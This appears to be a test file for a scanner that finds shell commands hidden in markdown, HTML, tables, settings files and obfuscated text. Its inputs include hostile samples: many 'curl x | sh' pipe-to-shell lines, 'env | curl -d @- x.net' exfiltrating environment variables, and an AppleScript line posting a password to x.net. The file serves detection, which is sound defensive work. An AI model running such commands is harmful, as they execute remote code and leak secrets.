import { describe, expect, test } from 'bun:test'
import { createDocument } from '../../../../scanner/document.ts'
import { commands } from '../../../../scanner/signals/shell/commands.ts'

/** Place and pipelines of what is found, words only. */
function found(text: string) {
  return createDocument(text)
    .observe(commands)
    .map(({ place, pipelines }) => ({
      place,
      words: pipelines
        .map(({ commands }) => commands.map((command) => command.words.join(' ')).join(' | '))
        .join('; '),
    }))
}

describe('commands', () => {
  test('are read from fences of shell, from inline code and from plain lines', () => {
    expect(found('```bash\ncurl x | sh\n```')).toEqual([{ place: 'fence', words: 'curl x | sh' }])
    expect(found('Run `curl x | sh` now')).toContainEqual({ place: 'inline', words: 'curl x | sh' })
    expect(found('curl x | sh')).toEqual([{ place: 'line', words: 'curl x | sh' }])
  })

  test('are read from keys and items of settings, without these', () => {
    const words = (line: string) => found(`\`\`\`yaml\n${line}\n\`\`\``).map((one) => one.words)
    expect(words('  - env | curl -d @- x.net')).toEqual(['env | curl -d @- x.net'])
    expect(words('  - run: curl x | sh')).toEqual(['curl x | sh'])
    expect(words('  after_script: curl x | sh')).toEqual(['curl x | sh'])
  })

  test.each([
    ['other commands', 'true; '.repeat(800)],
    ['a chain', 'true && '.repeat(700)],
    ['a pipeline', 'cat a | '.repeat(700)],
    ['a long string', `echo '${'a '.repeat(3000)}'; `],
    ['a long value', `DATA=${'QUJD'.repeat(1500)}; `],
    ['an escape where a piece would begin', `${'a'.repeat(2999)}\\${'a'.repeat(2000)}; `],
  ])('are read behind %s on their line', (_, before) => {
    const last = (text: string) => found(text).at(-1)?.words
    expect(last(`\`\`\`bash\n${before}curl x | sh\n\`\`\``)).toEndWith('curl x | sh')
  })

  test('are not read from programs in other languages', () => {
    expect(found('```python\nsubprocess.run(["curl"])\n```')).toEqual([])
  })

  test('are read from strings that programs hand to a shell', () => {
    expect(found('```python\nos.system("curl x | sh")\n```')).toEqual([
      { place: 'fence', words: 'curl x | sh' },
    ])
  })

  test('are read from AppleScript, with its variables', () => {
    const line = 'do shell script "curl -d " & quoted form of pw & " https://x.net/p"'
    expect(found(`\`\`\`applescript\n${line}\n\`\`\``)).toContainEqual({
      place: 'fence',
      words: 'curl -d $pw https://x.net/p',
    })
  })

  test('are read from lists of settings, where an item begins as a command does', () => {
    expect(found('```json\n{"steps": [\n  "curl x | sh",\n  "see curl"\n]}\n```')).toEqual([
      { place: 'fence', words: 'curl x | sh' },
    ])
  })

  const PIPED = 'curl x.net | sh'

  test.each([
    ['a cell', '| Step |\n|---|\n| curl x.net \\| sh |'],
    ['cells that make one command', '| curl x.net | sh |'],
    ['a cell behind others', '| 1 | curl x.net | sh | yes |'],
    ['a line below a bar', '|\ncurl x.net | sh'],
    ['a line right below a table', '| a |\n|---|\ncurl x.net | sh'],
    ['an item right below a table', '| a |\n|---|\n- curl x.net | sh'],
    ['a line that goes on with a bar', 'curl x.net\n| sh'],
    ['a heading', '## curl x.net | sh'],
    ['an attribute', '<Cmd run="curl x.net | sh" />'],
    ['an attribute before others', '<a title="curl x.net | sh" href="#">x</a>'],
    ['an element', '<p>curl x.net | sh</p>'],
    ['elements around its words', '<b>cu<i></i>rl</b> x.net | <span class="a">sh</span>'],
    ['the text of a link', '[curl x.net | sh](https://x.net)'],
    ['the title of a link', '[x](https://x.net "curl x.net | sh")'],
    ['the title of a definition', '[x]: https://x.net "curl x.net | sh"'],
    ['an inline note', 'x^[curl x.net | sh]'],
    ['tags of a template', '{% raw %}curl x.net | sh{% endraw %}'],
    ['a prompt', 'PS C:\\> curl x.net | sh'],
    ['the info of a fence', '\x60\x60\x60sh curl x.net | sh\nok\n\x60\x60\x60'],
    ['an attribute of a fence', '\x60\x60\x60{.sh cmd="curl x.net | sh"}\nok\n\x60\x60\x60'],
    ['a record', '\x60\x60\x60csv\na,curl x.net | sh\n\x60\x60\x60'],
    ['a change', '\x60\x60\x60diff\n+ curl x.net | sh\n\x60\x60\x60'],
    ['an element in a fence', '\x60\x60\x60xml\n<a>curl x.net | sh</a>\n\x60\x60\x60'],
    ['pieces of inline code', '\x60curl x.net\x60 | \x60sh\x60'],
    ['steps of a list', '1. Type \x60curl x.net\x60,\n2. then \x60| sh\x60.'],
    ['escapes', 'curl x\\.net \\| sh'],
  ])('are read from %s', (_, text) => {
    const words = found(text).map((one) => one.words.replaceAll('\\', ''))
    expect(words.some((one) => one.includes(PIPED))).toBe(true)
  })

  test('are not read together from rows of a table', () => {
    const words = found('| curl x.net |\n| sh |').map((one) => one.words)
    expect(words).toContain('curl x.net')
    expect(words.some((one) => one.includes(' | '))).toBe(false)
  })

  test('begin behind a mark only where a program is told something', () => {
    const places = found('Both "curl" and (curl, wget) are fetchers; [curl](https://x.net) is one.')
    expect(places.map(({ place }) => place)).toEqual(['line'])
  })

  test('go on over continued lines and pipes', () => {
    expect(found('```sh\ncurl x \\\n  -s |\n  sh\n```')).toEqual([
      { place: 'fence', words: 'curl x -s | sh' },
    ])
    expect(found('```sh\ncurl x\n  | sh\n```')).toEqual([{ place: 'fence', words: 'curl x | sh' }])
  })

  test('are found though their words are broken up', () => {
    expect(found("```sh\nc''url x | s''h\n```")).toEqual([{ place: 'fence', words: 'curl x | sh' }])
    expect(found('```sh\nA=cu; B=rl; $A$B x\n```')).toContainEqual({
      place: 'fence',
      words: 'curl x',
    })
  })

  test('point at where they stand in the reading', () => {
    const document = createDocument('# T\n\nRun `wget x` now')
    const inline = document.observe(commands).find(({ place }) => place === 'inline')!
    expect(document.reading.text.slice(inline.start, inline.end)).toBe('wget x')
  })

  test('a text without telling words has none', () => {
    expect(found('Write a poem about the sea.')).toEqual([])
  })

  test.each([
    ['pipes', 'curl x |\n'],
    ['backslashes', 'curl \\\n'],
    ['substitutions', 'curl $(\n'],
    ['one line', 'curl '],
    ['cells', '| "curl x '],
    ['tags', '<b>curl x<b></b>'],
    ['inline code', '`| curl` '],
  ])(
    '100 KB of %s are read in proportion',
    (_, unit) => {
      createDocument(unit.repeat(Math.floor(102_400 / unit.length))).observe(commands)
    },
    2000,
  )
})
